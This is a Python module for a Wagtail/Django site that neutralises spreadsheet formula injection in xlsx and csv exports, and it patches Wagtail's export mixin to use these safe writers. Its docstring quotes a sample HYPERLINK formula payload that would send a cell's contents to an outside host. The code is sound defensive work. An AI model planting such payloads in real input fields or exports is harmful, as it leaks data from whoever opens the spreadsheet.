"""The one writer for every xlsx and csv export (issue 14 item 7: formula injection).

A spreadsheet program evaluates a cell whose text starts with ``=``, ``+``,
``-`` or ``@`` (and, after trimming, a tab or carriage return) as a formula:
``=HYPERLINK("http://…/?x="&A3,"点击")`` typed as a user name at the login
form would become a live link in the audit export. Every export therefore
goes through this module:

- xlsx: such a cell is stored as text (a shared string, never a ``<f>``
  formula) with the quote prefix set, as Excel itself does for ``'=…``; the
  text is kept exactly, so the 审计管理员 sees what was typed;
- csv: such a cell is prefixed with ``'`` (csv has no types);
- numbers, dates and times stay typed as numbers, dates and times.

Wagtail's admin exports (ModelViewSet listings with ``list_export``, the page
explorer, the reports) all write rows through ``SpreadsheetExportMixin``:
:func:`install` (called from CoreConfig.ready) makes its row writers these, so
no listing, present or future, writes a raw cell; a test checks every viewset.
"""

import csv
import datetime
import io
from collections.abc import Iterable, Sequence
from decimal import Decimal
from typing import Any

from django.utils import timezone

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")

CSV_BOM = "\ufeff"

XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

_TYPED = (bool, int, float, Decimal, datetime.date, datetime.time, datetime.timedelta)


def is_formula_like(value: Any) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_PREFIXES)


def csv_value(value: Any) -> Any:
    """A csv cell: formula-like text gets a leading ``'``; anything else as is."""
    if value is None or isinstance(value, _TYPED):
        return value
    text = value if isinstance(value, str) else str(value)
    return "'" + text if is_formula_like(text) else text


def xlsx_cell(sheet, value: Any, *, number_format: str | None = None):
    """A write-only cell that is never a formula: text stays text."""
    from openpyxl.cell import WriteOnlyCell

    if value is not None and not isinstance(value, (*_TYPED, str)):
        value = str(value)
    cell = WriteOnlyCell(sheet, value=value)
    if isinstance(value, str):
        # openpyxl reads a leading "=" as a formula: force text, and mark it as Excel
        # marks a typed '=… (quote prefix) so that re-editing the cell keeps it text.
        cell.data_type = "s"
        if is_formula_like(value):
            cell.quotePrefix = True
    elif number_format and isinstance(value, datetime.datetime):
        cell.number_format = number_format
    return cell


class SafeWorkbook:
    """A write-only workbook whose rows go through :func:`xlsx_cell`."""

    def __init__(self):
        from openpyxl import Workbook

        self.workbook = Workbook(write_only=True, iso_dates=True)
        self._bold = None

    def sheet(self, title: str):
        return _SafeSheet(self, self.workbook.create_sheet(title=title[:31]))

    def bold_font(self):
        if self._bold is None:
            from openpyxl.styles import Font

            self._bold = Font(bold=True)
        return self._bold

    def save(self, target) -> None:
        self.workbook.save(target)

    def to_bytes(self) -> bytes:
        buffer = io.BytesIO()
        self.save(buffer)
        return buffer.getvalue()


class _SafeSheet:
    def __init__(self, book: SafeWorkbook, sheet):
        self.book, self.sheet = book, sheet

    def append(self, values: Iterable[Any], *, bold: bool = False, number_format: str | None = None) -> None:
        cells = []
        for value in values:
            cell = xlsx_cell(self.sheet, value, number_format=number_format)
            if bold:
                cell.font = self.book.bold_font()
            cells.append(cell)
        self.sheet.append(cells)


def csv_text(rows: Iterable[Sequence[Any]]) -> str:
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    for row in rows:
        writer.writerow([csv_value(v) for v in row])
    return buffer.getvalue()


class SafeSpreadsheetExportMixin:
    """For a Wagtail IndexView (SpreadsheetExportMixin): both formats neutralised."""

    def generate_xlsx_row(self, worksheet, row_dict, date_format=None):
        return [
            xlsx_cell(
                worksheet,
                self.preprocess_field_value(field, value, self.FORMAT_XLSX),
                number_format=date_format,
            )
            for field, value in row_dict.items()
        ]

    def write_csv_row(self, writer, row_dict):
        return writer.writerow(
            {
                field: csv_value(self.preprocess_field_value(field, value, self.FORMAT_CSV))
                for field, value in row_dict.items()
            }
        )


def local_time_value(value: Any, *, for_xlsx: bool) -> Any:
    """An aware datetime in the center's time zone (issue 20: exports show the times staff
    saw, not UTC): naive for xlsx (a typed cell), text for csv."""
    if isinstance(value, datetime.datetime) and timezone.is_aware(value):
        local = timezone.localtime(value)
        return local.replace(tzinfo=None) if for_xlsx else local.strftime("%Y-%m-%d %H:%M:%S")
    return value


def install() -> None:
    """Make Wagtail's own exports (every IndexView and report) use the safe row writers,
    local times, and a UTF-8 BOM on csv (Excel and WPS then read the Chinese right)."""
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    if getattr(SpreadsheetExportMixin, "_ggzy_installed", False):
        return
    SpreadsheetExportMixin.generate_xlsx_row = SafeSpreadsheetExportMixin.generate_xlsx_row
    SpreadsheetExportMixin.write_csv_row = SafeSpreadsheetExportMixin.write_csv_row
    preprocess, stream = SpreadsheetExportMixin.preprocess_field_value, SpreadsheetExportMixin.stream_csv

    def preprocess_field_value(self, field, value, export_format):
        value = local_time_value(value, for_xlsx=export_format == self.FORMAT_XLSX)
        return preprocess(self, field, value, export_format)

    def stream_csv(self, queryset):
        yield CSV_BOM
        yield from stream(self, queryset)

    SpreadsheetExportMixin.preprocess_field_value = preprocess_field_value
    SpreadsheetExportMixin.stream_csv = stream_csv
    SpreadsheetExportMixin._ggzy_installed = True
